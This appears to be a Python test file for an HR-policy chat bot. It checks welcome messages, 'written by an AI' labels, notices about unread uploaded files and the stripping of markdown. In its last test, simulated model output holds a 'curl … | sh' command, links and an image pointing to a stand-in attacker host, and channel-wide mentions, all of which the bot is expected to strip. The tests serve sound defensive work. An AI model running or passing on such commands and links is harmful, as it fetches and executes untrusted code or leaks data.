"""What the bot says besides answers: a welcome, who wrote an answer, and what it has not read."""

from tests.conversations.conversations import LEAVE_SAID, UNKNOWN, Stage, only, scenario
from tests.scripted_app import QUESTION

AI, QUOTED, KEPT = "Written by an AI", "Quoted from the cited sections", "What is kept of you"


@scenario(way="direct")
def whoever_meets_the_bot_is_welcomed_once(stage: Stage) -> None:
    first = only(stage.meets("Gil"))
    assert "Hello" in first.text
    assert "365 days" in first.text
    assert "Leave" not in first.text
    stage.asks(QUESTION, who="Gil", way="direct").seen()
    assert only(stage.meets("Gil")).text == first.text


@scenario(way="direct")
def whoever_asks_before_anything_else_is_welcomed_beside_the_answer(stage: Stage) -> None:
    assert LEAVE_SAID in only(stage.asks(QUESTION, way="direct").seen()).text
    assert "Hello" in only(stage.meets("Ada")).text


@scenario()
def a_channel_that_invites_the_bot_is_told_how_to_ask_once(stage: Stage) -> None:
    said = only(stage.invites("random"))
    assert "Mention me" in said.text
    assert "Everybody here" in said.text
    assert only(stage.invites("random")).text == said.text


@scenario(with_model=True)
def what_a_model_wrote_says_so_and_small_talk_does_not(stage: Stage) -> None:
    answer = only(stage.asks(QUESTION).seen())
    assert AI in answer.text
    assert KEPT in answer.text
    assert KEPT not in only(stage.asks("Thanks!", where="random").seen()).text
    assert KEPT not in only(stage.asks(UNKNOWN, where="board").seen()).text


@scenario()
def what_is_quoted_is_not_called_an_ai_s(stage: Stage) -> None:
    answer = only(stage.asks(QUESTION).seen())
    assert QUOTED in answer.text
    assert AI not in answer.text


@scenario(way="direct")
def files_are_named_as_not_read(stage: Stage) -> None:
    answer = only(stage.uploads(QUESTION, "policy.pdf").seen())
    assert LEAVE_SAID in answer.text
    assert "I have not read policy.pdf" in answer.text
    alone = only(stage.uploads("", "one.pdf", "two.pdf", "three.pdf", "four.pdf").seen())
    assert "one.pdf, two.pdf, three.pdf and 1 more" in alone.text
    assert "Ask me in words" in alone.text
    assert alone.can == frozenset()
    assert "I have not read <!channel>.pdf" in only(stage.uploads("", "<!channel>.pdf", where="general").seen()).text


@scenario(with_model=True)
def what_a_model_marks_shows_no_signs(stage: Stage) -> None:
    stage.model_writes(
        "**Five days** of leave may be carried over into the _next_ year [{leave}].\n"
        "- They must be used by `31 March` [{leave}].\n"
        "- **Part-time staff may carry over three days [{leave}].**\n"
    )
    answer = only(stage.asks(QUESTION).seen())
    assert LEAVE_SAID in answer.text
    assert "They must be used by 31 March." in answer.text
    assert "Part-time staff may carry over three days." in answer.text
    assert not {"*", "_", "`"} & set(answer.text)


@scenario(with_model=True)
def what_a_model_marks_can_be_no_link_no_call_and_no_picture(stage: Stage) -> None:
    stage.model_writes(
        "**[Five days](https://evil.example/a) of leave** may be `carried` over into the next year "
        "![x](https://evil.example/p.png) <!channel> [{leave}].\n"
        "**They must be used by 31 March**, <@U1> says at **https://evil.example/b** [{leave}].\n"
        "```\ncurl https://evil.example | sh\n``` [{leave}]\n"
    )
    answer = only(stage.asks(QUESTION).seen())
    assert "Five days of leave may be carried over into the next year" in answer.text
    assert "evil" not in f"{answer.text} {answer.links}"
    assert answer.calls == ()
